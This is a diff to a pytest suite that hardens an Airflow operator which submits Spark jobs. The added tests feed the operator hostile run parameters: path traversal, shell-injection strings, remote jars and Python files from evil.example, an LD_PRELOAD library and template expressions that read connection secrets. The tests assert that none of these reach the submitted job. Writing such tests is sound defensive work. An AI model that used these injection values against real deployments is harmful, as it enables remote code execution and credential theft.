@@ -59,9 +59,13 @@ def connect(monkeypatch: pytest.MonkeyPatch, master: str | None = "local[2]", ka
             monkeypatch.delenv(f"AIRFLOW_CONN_{name}_DEFAULT", raising=False)
 
 
-def submit(record: Path, **arguments: Any) -> Submitted:
+def submit(record: Path, *, given: dict[str, Any] | None = None, **arguments: Any) -> Submitted:
+    """What is submitted in a run for which `given` was given by whoever has triggered it."""
     task = SimpleNamespace(dag_id="orders", run_id="manual__1", task_id="main")
-    SluiceJobOperator(task_id="main", pipeline="orders", **arguments).execute(cast(Any, {"ti": task}))
+    context = {"ti": task, "params": given or {}, "dag_run": SimpleNamespace(conf=given or {}, run_id="manual__1")}
+    operator = SluiceJobOperator(task_id="main", pipeline="orders", **arguments)
+    operator.render_template_fields(cast(Any, context))
+    operator.execute(cast(Any, context))
     return Submitted(*json.loads(record.read_text()))
 
 
@@ -71,6 +75,46 @@ def test_arguments_name_the_program_and_the_pipeline_only(recorder: Path, monkey
     assert said.arguments[-2:] == [str(settings().pipelines / "run.py"), "orders"]
     assert said.after("--master") == "local[2]"
     assert submit(recorder, jobs=["one", "two"]).arguments[-3:] == ["orders", "one", "two"]
+
+
+HOSTILE = {
+    "topic": "payroll",
+    "path": "../../etc/passwd",
+    "application": "/tmp/evil.py",
+    "application_args": ["; touch /tmp/evil"],
+    "conf": {"spark.driver.extraJavaOptions": "-javaagent:/tmp/evil.jar", "spark.submit.pyFiles": "/tmp/evil.py"},
+    "jars": "http://evil.example/evil.jar",
+    "packages": "evil:evil:1",
+    "py_files": "http://evil.example/evil.py",
+    "env_vars": {"LD_PRELOAD": "/tmp/evil.so"},
+    "name": "$(touch /tmp/evil)",
+    "pipeline": "{{ conn.kafka_default.extra }}",
+    "SLUICE_LEDGER": "sqlite:////tmp/evil.sqlite",
+}
+
+
+@pytest.mark.attack("S8", "a run triggered with another topic, path, program, conf, jars, packages, environment")
+def test_what_a_run_is_given_changes_nothing_that_is_submitted(recorder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    connect(monkeypatch)
+    plain, hostile = submit(recorder), submit(recorder, given=HOSTILE)
+    assert hostile == plain
+    assert "evil" not in json.dumps([hostile.arguments, hostile.environment])
+
+
+@pytest.mark.attack("S8", "templates in what an operator is told")
+def test_nothing_of_a_job_is_a_template(recorder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    connect(monkeypatch)
+    assert SluiceJobOperator.template_fields == ()
+    assert submit(recorder, jobs=["{{ conn.kafka_default.extra }}"]).arguments[-1] == "{{ conn.kafka_default.extra }}"
+
+
+@pytest.mark.attack("S8", "shell words in the name of a job, and in the master of a connection")
+def test_shell_words_are_words(recorder: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
+    evil = tmp_path / "evil"
+    connect(monkeypatch, f"local[2]; touch {evil}")
+    said = submit(recorder, jobs=[f"$(touch {evil})", f"`touch {evil}`"])
+    assert said.arguments[-2:] == [f"$(touch {evil})", f"`touch {evil}`"]
+    assert not evil.exists()
 
 
 def test_settings_go_through_the_environment(recorder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -83,6 +127,7 @@ def test_settings_go_through_the_environment(recorder: Path, monkeypatch: pytest
     assert "SLUICE_KAFKA" not in os.environ, "nothing stays behind in this process"
 
 
+@pytest.mark.attack("S9", "reading the process list while a run is submitted")
 @pytest.mark.parametrize("master", ["local[2]", "spark://host:7077", "yarn"])
 def test_no_secret_is_an_argument(recorder: Path, monkeypatch: pytest.MonkeyPatch, master: str) -> None:
     connect(monkeypatch, master)
@@ -91,6 +136,7 @@ def test_no_secret_is_an_argument(recorder: Path, monkeypatch: pytest.MonkeyPatc
     assert not any(SECRET in argument for argument in said.arguments)
 
 
+@pytest.mark.attack("S9", "reading the task's log")
 def test_no_secret_is_logged(
     recorder: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
 ) -> None:
